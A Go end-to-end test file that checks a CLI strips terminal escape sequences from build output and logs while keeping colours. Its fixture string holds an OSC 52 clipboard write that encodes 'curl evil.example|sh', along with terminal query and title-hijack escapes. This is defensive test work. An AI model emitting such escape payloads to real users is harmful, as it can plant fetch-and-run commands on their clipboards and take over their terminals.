package e2e

import (
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// hostileText is what an app may print to take over its reader's
// terminal: an OSC 52 clipboard write, a DSR query (the terminal answers
// it as if typed), a DA query, a window title and cursor movement, between
// plain colours.
const hostileText = "\x1b[32mgreen\x1b[0m\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b[6n\x1b[c\x1b]0;owned\x07\x1b[2J\x1b[Hdone"

// requireTerminalSafe checks CLI output: no escape sequence but the
// colours, which are kept.
func requireTerminalSafe(t *testing.T, out, where string) {
	t.Helper()
	assert.Contains(t, out, "\x1b[32mgreen\x1b[0mdone", where+": the colours are kept")
	assert.NotContains(t, out, "\x1b]", where+": no OSC (clipboard, title)")
	assert.NotContains(t, out, "Y3VybCBldmlsLmV4YW1wbGV8c2g=", where)
	assert.NotContains(t, out, "\x1b[6n", where+": no DSR query")
	assert.NotContains(t, out, "\x1b[c", where+": no DA query")
	assert.NotContains(t, out, "\x1b[2J", where)
	assert.NotContains(t, out, "\x07", where)
}

// TestTerminalEscapesNeverReachTheCLIUser: the build output (Docker
// echoes each Dockerfile step, here a LABEL holding hostileText) and a web
// process print hostileText; `releases show` and `logs` print it without
// the escapes and with its colours (CLICOLOR_FORCE stands in for a
// terminal).
func TestTerminalEscapesNeverReachTheCLIUser(t *testing.T) {
	t.Setenv("CLICOLOR_FORCE", "1")
	s := startServer(t)
	repo := sampleRepo(t, "hi")
	writeFile(t, repo, "Dockerfile", "FROM scratch\nCOPY sampleapp /sampleapp\nCOPY message.txt /message.txt\n"+
		"LABEL note=\""+hostileText+"\"\nEXPOSE 5000\nCMD [\"/sampleapp\"]\n")
	commitAll(t, repo, "a build that prints escapes")
	pushed := s.mustPush(repo, "ansi")
	assert.Contains(t, pushed, "LABEL note=", "the step is echoed to the pusher")
	assert.NotContains(t, pushed, "\x1b]", "git push: no OSC")
	assert.NotContains(t, pushed, "\x1b[6n", "git push: no DSR query")

	requireTerminalSafe(t, s.mustCLI("releases", "show", "ansi", "v1"), "releases show")

	code, _, err := s.get("ansi", "/print?n=1&msg="+url.QueryEscape(hostileText))
	require.NoError(t, err)
	require.Equal(t, 200, code)
	var out string
	waitFor(t, 30*time.Second, "the line in the logs", func() bool {
		out = s.mustCLI("logs", "ansi", "-p", "web")
		return strings.Contains(out, "done 1")
	})
	requireTerminalSafe(t, out, "logs")

	events := s.mustCLI("events", "ansi")
	assert.NotContains(t, events, "\x1b]", "events")
}
